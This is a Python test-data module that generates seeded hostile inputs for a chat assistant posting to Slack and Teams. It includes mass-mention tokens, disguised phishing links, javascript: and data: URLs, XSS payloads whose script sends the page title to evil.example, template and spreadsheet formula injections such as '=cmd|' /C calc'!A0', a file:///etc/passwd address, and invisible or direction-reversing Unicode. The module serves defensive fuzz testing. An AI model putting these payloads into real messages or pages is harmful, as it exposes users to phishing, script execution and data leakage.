"""What somebody could write into a field to call people, to lead them elsewhere, or to have it run
as a program: made from a seed, so that what was found is found again. All of it is test data."""

from __future__ import annotations

import random
from collections.abc import Iterator

EVIL, GOOD = "https://evil.example/login", "https://www.gov.uk"
RUN = "window.hostile=1;fetch('https://evil.example/'+document.title)"
LONGEST = 4_000  # characters that the assistant takes
_BELOW = "\u202e\u202d\u2066\u2067\u200e\u200f\u061c"
_UNSEEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e"
_CONTROLS = "\x00\x01\x07\x08\x0b\x0c\x0e\x1b\x7f\x85\x9f\u2028\u2029"

KINDS: dict[str, tuple[str, ...]] = {
    "mentions in Slack": (
        *("<!channel>", "<!here>", "<!everyone>", "<!here|here>", "@channel", "@here", "@everyone"),
        *("<@U0OFFICER>", "<@W0OFFICER|Sam>", "<#C0TOWNHALL|general>", "<!subteam^S01|@staff>"),
        *("&lt;!channel&gt;", "&#60;!channel&#62;", "<!date^1^{date}^https://evil.example|now>"),
        *(
            "<\u200b!channel>",
            "<!chan\u00adnel>",
            "＜!channel＞",
            "<!channel",
            "!channel>",
            "@\u200bhere",
        ),
    ),
    "mentions in Teams": (
        *("<at>All</at>", "<at id='0'>Everyone</at>", '<at id="29:example">Sam</at>', "</at><at>"),
        *(
            "&lt;at&gt;All&lt;/at&gt;",
            "<AT>All</AT>",
            "<at\u200b>All</at>",
            "<at>{0}</at>",
            "@Team",
        ),
    ),
    "disguised links": (
        *(f"<{EVIL}|{GOOD}>", f"<{EVIL}|www.gov.uk>", f"[{GOOD}]({EVIL})", f"[gov.uk]({EVIL} 'x')"),
        *(f"[{GOOD}][1]\n\n[1]: {EVIL}", f"![{GOOD}]({EVIL}.png)", f"<a href='{EVIL}'>{GOOD}</a>"),
        *(
            f"{GOOD}@evil.example",
            "https://www.gov.uk\\@evil.example/",
            f"<{EVIL}>",
            f"[x]: <{EVIL}>",
        ),
        *(f"[1]({EVIL})", f"[ [1] ]({EVIL})", f"[{GOOD}](<{EVIL}>)", f"[![a](b)]({EVIL})"),
        *("https://www.gоv.uk/lоgin", "https://gov.uk\u2024evil.example", "https://xn--gv-fmc.uk"),
        *("http://gov。uk", "https://evil.example%2F@gov.uk", "//evil.example", "hxxps://gov[.]uk"),
    ),
    "addresses that run": (
        *(f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}"),
        *(f"data:text/html,<script>{RUN}</script>", "vbscript:x", "file:///etc/passwd", "blob:x"),
        *(
            f"[x](javascript:{RUN})",
            f"<javascript:{RUN}|x>",
            "mailto:x@evil.example?bcc=y",
            "tel:999",
        ),
    ),
    "HTML": (
        *(f"<script>{RUN}</script>", f'<img src=x onerror="{RUN}">', f'<svg/onload="{RUN}">'),
        *(f'<iframe srcdoc="<script>parent.{RUN}</script>">', f'<a href="javascript:{RUN}">x</a>'),
        *(
            f'"><script>{RUN}</script>',
            f"'-{RUN}-'",
            f"</textarea><script>{RUN}</script>",
            "<b>x</b>",
        ),
        *(
            f"</script><script>{RUN}</script>",
            "<style>*{display:none}</style>",
            "<base href=//evil>",
        ),
        *("<meta http-equiv=refresh content='0;url=https://evil.example'>", "<form action=//evil>"),
        *(
            f"<math><mtext></p><img src onerror={RUN}>",
            "<!--",
            "]]>",
            f"<details open ontoggle={RUN}>",
        ),
    ),
    "templates": (
        *("${$root}", "${title}", "${json('{}')}", "{{DATE(2026-01-01T00:00:00Z, SHORT)}}", "{0}"),
        *(
            "{{constructor.constructor('x')()}}",
            "%(token)s",
            "{settings.token}",
            "#{7*7}",
            "<%= 7 %>",
        ),
        '{"type":"AdaptiveCard","body":[{"type":"TextBlock","text":"x"}]}',
        '"}],"actions":[{"type":"Action.OpenUrl","url":"https://evil.example","title":"x"}]',
        '{"msteams":{"entities":[{"type":"mention","text":"<at>All</at>"}]}}',
    ),
    "blocks": (
        '{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}',
        '[{"type":"rich_text","elements":[{"type":"broadcast","range":"channel"}]}]',
        *(
            '"},{"type":"user","user_id":"U1"},{"text":"',
            "```<!channel>```",
            "`<!here>`",
            "> <!here>",
        ),
    ),
    "controls": (
        *_CONTROLS,
        *_UNSEEN,
        *_BELOW,
        f"\u202e{EVIL[::-1]}\u202c",
        "\ud800",
        "a\r\nb",
        "\t",
    ),
    "formulas": (
        *(
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            '=HYPERLINK("https://evil.example")',
        ),
        *("\r=1", " =1+1", '"=1+1', "＝1+1", "%0A=1"),
    ),
    "marks": (
        *(
            "*b*",
            "_i_",
            "~s~",
            "`c`",
            "```",
            "# head",
            "> quote",
            "- item",
            "1. one",
            "| a | b |",
            "---",
        ),
        *(
            "[1]",
            "[99]",
            "［1］",
            "“",
            "”",
            "\\",
            "]",
            ")",
            "](",
            "[",
            "<",
            ">",
            "&",
            "&amp;lt;",
            "\n\n",
        ),
        *(
            ":tada:",
            ":+1::skin-tone-6:",
            "👩‍👩‍👧‍👦",
            "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
            "🇬🇧",
            "e\u0301\u0301\u0301",
            "İ",
            "ﷺ",
            "𝔥𝔱𝔱𝔭𝔰://evil.example",
        ),
    ),
}


def hostile_texts(number: int, seed: int = 10) -> Iterator[str]:
    """So many, of every kind in turn: one thing that is tried, or several in a sentence; a few very
    long."""
    chance = random.Random(seed)
    kinds = tuple(KINDS)
    every = tuple(one for kind in kinds for one in KINDS[kind])
    for at in range(number):
        tried = [chance.choice(KINDS[kinds[at % len(kinds)]])]
        tried += chance.choices(every, k=chance.choice((0, 0, 1, 2, 5)))
        chance.shuffle(tried)
        told = chance.choice(("", " ", " damp sensors ", "\n")).join(tried)
        if at % 25 == 24:
            told = told * (LONGEST // max(1, len(told)) + 1)
        yield f"Anytown {told}"[:LONGEST] if at % 3 else told[:LONGEST]
